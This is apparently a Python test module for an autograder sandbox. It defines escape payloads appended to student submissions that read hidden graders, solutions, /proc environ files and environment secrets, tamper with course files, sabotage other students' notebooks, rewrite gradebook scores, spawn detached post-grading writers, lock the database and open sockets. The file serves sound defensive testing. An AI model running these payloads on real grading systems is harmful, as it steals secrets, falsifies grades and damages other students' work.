"""Escapes: reading what the course hides, writing what it owns, reaching the network.

These submissions keep the reference answers (their points are deserved) and append a
payload that prints whatever it could reach. Course files are attacked in the scratch
course only; the repository is only read and probed for writability (never written).
"""
from harness.fabricate import reference_answers

from .catalogue import Attack, reference_with

REFERENCE = reference_answers("ps01_vectors")

READ_SECRETS = r'''
import glob, hashlib, os, re
def _report(label, data):
    if isinstance(data, str):
        data = data.encode(errors="replace")
    found = sorted(set(re.findall(rb"SECRET-[a-z]+-[0-9a-f]{12}", data)))
    print("ESCAPE-READ", label, hashlib.sha256(data).hexdigest(), [f.decode() for f in found], data[:300])
_course_files = ["source/ps01_vectors/ps01_vectors.ipynb", "graders/ps01_vectors.py", "solutions/ps01_vectors.py",
                 "gradebook.db", "submitted/honest/ps01_vectors/ps01_vectors.ipynb", "nbgrader_config.py"]
# the course root seen from the working directory (stock: ../../..), wherever the kernel runs
_targets = [_base + _rel for _base in ("", "../", "../../", "../../../", "__COURSE__/") for _rel in _course_files]
_targets += ["__REPO__/graders/ps01_vectors.py", "__REPO__/graders/checks.py",
            "__REPO__/solutions/ps01_vectors.py", "__REPO__/source/ps01_vectors/ps01_vectors.ipynb",
            "__OUTSIDE__/host_secret.txt", "/proc/self/environ", "/proc/%d/environ" % os.getppid(),
            "/proc/1/environ", "/proc/%d/cmdline" % os.getppid()]
_targets += glob.glob("../../../submitted/*/ps01_vectors/*.ipynb") + glob.glob("../../*/ps01_vectors/*.ipynb")
for _path in _targets:
    try:
        with open(_path, "rb") as _f:
            _report(_path, _f.read())
    except Exception as exc:
        print("denied", _path, type(exc).__name__)
try:
    import inspect, graders.ps01_vectors as _hidden
    print("ESCAPE-WHERE graders from", getattr(_hidden, "__file__", None), "cwd", os.getcwd())
    _report("inspect graders", inspect.getsource(_hidden))
except Exception as exc:
    print("denied inspect graders", type(exc).__name__)
try:
    import solutions.ps01_vectors as _sol
    _report("import solutions", open(_sol.__file__, "rb").read())
except Exception as exc:
    print("denied import solutions", type(exc).__name__)
_report("environment", repr(dict(os.environ)))
for _root in (".", "..", "../../..", "__COURSE__", "__REPO__", "__OUTSIDE__"):
    try:
        print("ESCAPE-LIST", _root, sorted(os.listdir(_root))[:40])
    except Exception as exc:
        print("denied listing", _root, type(exc).__name__)
'''

# Writes inside the scratch course (and a host folder outside it), and read-only
# writability probes of the repository: nothing under __REPO__ is ever written.
WRITE_FILES = r'''
import json, os
def _append(path, text="\n# tampered by a submission\n"):
    try:
        with open(path, "a") as f:
            f.write(text)
        print("ESCAPE-WROTE", path)
    except Exception as exc:
        print("denied", path, type(exc).__name__)
_bases = ("", "../", "../../", "../../../", "__COURSE__/")  # the course root, wherever the kernel runs
for _base in _bases:
    for _rel in ("source/ps01_vectors/ps01_vectors.ipynb", "release/ps01_vectors/ps01_vectors.ipynb",
                 "graders/ps01_vectors.py", "graders/checks.py", "solutions/ps01_vectors.py", "nbgrader_config.py"):
        if os.path.exists(_base + _rel):
            _append(_base + _rel)
_append("../../../source/ps01_vectors/planted.py")
_append("__OUTSIDE__/escaped.txt")
def _sabotage(path):
    """Replace another student's answers by a broken one before they are graded."""
    try:
        nb = json.load(open(path))
        for cell in nb["cells"]:
            if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
                cell["source"] = "raise RuntimeError('sabotaged')\n"
        json.dump(nb, open(path, "w"))
        print("ESCAPE-WROTE", path)
    except Exception as exc:
        print("denied", path, type(exc).__name__)
for _base in _bases:
    for _student in ("honest", "wrong"):
        if os.path.exists(_base + "submitted/%s/ps01_vectors/ps01_vectors.ipynb" % _student):
            _sabotage(_base + "submitted/%s/ps01_vectors/ps01_vectors.ipynb" % _student)
for _path in ["__REPO__/graders/ps01_vectors.py", "__REPO__/graders/checks.py", "__REPO__/solutions/ps01_vectors.py",
              "__REPO__/nbgrader_config.py", "__REPO__/source/ps01_vectors/ps01_vectors.ipynb"]:
    try:  # probe only: opened for appending, closed without writing a byte
        os.close(os.open(_path, os.O_WRONLY | os.O_APPEND))
        print("ESCAPE-WRITABLE", _path)
    except Exception as exc:
        print("not writable", _path, type(exc).__name__)
'''

GRADEBOOK_SQL = r'''
import sqlite3
def _rewrite_grades(db):
    con = sqlite3.connect(db, timeout=2)
    con.execute("UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id), "
                "manual_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id) "
                "WHERE cell_id IN (SELECT id FROM grade_cells)")
    con.execute("UPDATE grade SET auto_score = 0, manual_score = 0 WHERE notebook_id IN ("
                "SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id "
                "WHERE sa.student_id = 'honest')")
    con.commit()
    con.close()
'''

WRITE_GRADEBOOK = GRADEBOOK_SQL + r'''
import os
for _db in ("gradebook.db", "../gradebook.db", "../../gradebook.db", "../../../gradebook.db", "__COURSE__/gradebook.db"):
    if not os.path.exists(_db):
        continue
    try:
        _rewrite_grades(_db)
        print("ESCAPE-WROTE", _db)
    except Exception as exc:
        print("denied", _db, type(exc).__name__)
'''

# A detached process (own session, survives the kernel) waits until grading is over,
# then rewrites grades and course files. Its argv carries the run's tag.
DETACHED_WRITER = r'''
import os, subprocess, sys
_payload = {payload!r} + r"""
import os, sys, time
grader = int(sys.argv[2])
deadline = time.time() + 240
while time.time() < deadline and os.path.exists("/proc/%d" % grader):
    time.sleep(0.2)
time.sleep(0.5)
for db in ("__COURSE__/gradebook.db",):
    try:
        _rewrite_grades(db)
    except Exception:
        pass
for path in ("__COURSE__/source/ps01_vectors/ps01_vectors.ipynb", "__COURSE__/graders/ps01_vectors.py",
             "__COURSE__/nbgrader_config.py", "__COURSE__/release/ps01_vectors/ps01_vectors.ipynb",
             "__OUTSIDE__/escaped-later.txt"):
    try:
        open(path, "a").write("\n# tampered after grading\n")
    except Exception:
        pass
"""
subprocess.Popen([sys.executable, "-c", _payload, "__TAG__-writer", str(os.getppid())], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, close_fds=True)
print("detached writer started")
'''.replace("{payload!r}", repr(GRADEBOOK_SQL))

# Holds an exclusive SQLite lock on the gradebook from a detached process (at most 45 s).
SQLITE_LOCK = r'''
import subprocess, sys
_hold = """
import sqlite3, sys, time
for db in ("gradebook.db", "../gradebook.db", "../../gradebook.db", "../../../gradebook.db", "__COURSE__/gradebook.db"):
    try:
        open(db, "rb").close()
        con = sqlite3.connect(db, timeout=5, isolation_level=None)
        con.execute("BEGIN EXCLUSIVE")
        break
    except Exception:
        pass
time.sleep(45)
"""
subprocess.Popen([sys.executable, "-c", _hold, "__TAG__-lock"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
import time; time.sleep(1)
print("lock holder started")
'''

NETWORK = r'''
import socket
for _family, _address in ((socket.AF_INET, ("127.0.0.1", __PORT__)), (socket.AF_UNIX, "__SOCK__")):
    try:
        _s = socket.socket(_family, socket.SOCK_STREAM)
        _s.settimeout(3)
        _s.connect(_address)
        _s.sendall(b"ATTACK hello from a submission")
        _s.close()
        print("ESCAPE-NET connected", _address)
    except Exception as exc:
        print("no network", _address, type(exc).__name__)
'''


def _ref(payload: str) -> dict[str, str]:
    return {"cosine_similarity": reference_with(payload, REFERENCE["cosine_similarity"])}


ESCAPES = [
    Attack("atk-read-secrets", "reads source/, graders/, solutions/, gradebook.db, other students, host files, "
           "environment; prints what it finds", _ref(READ_SECRETS), base="reference", feedback=True),
    Attack("atk-write-files", "appends to course files, sabotages other students' submissions, probes the "
           "repository for write access", _ref(WRITE_FILES), base="reference"),
    Attack("atk-write-gradebook", "sqlite UPDATE: every grade to max, the honest student's to 0",
           _ref(WRITE_GRADEBOOK), base="reference"),
    Attack("atk-detached-writer", "a detached process waits for grading to end, then rewrites grades and files",
           _ref(DETACHED_WRITER), base="reference"),
    Attack("atk-network", "connects to a TCP listener on 127.0.0.1 and to a unix socket outside the course",
           _ref(NETWORK), base="reference"),
    # Sorted last among attackers: against stock nbgrader the lock stops the rest of the batch.
    Attack("atk-zz-sqlite-lock", "a detached process holds BEGIN EXCLUSIVE on gradebook.db for 45 s",
           _ref(SQLITE_LOCK), base="reference"),
]
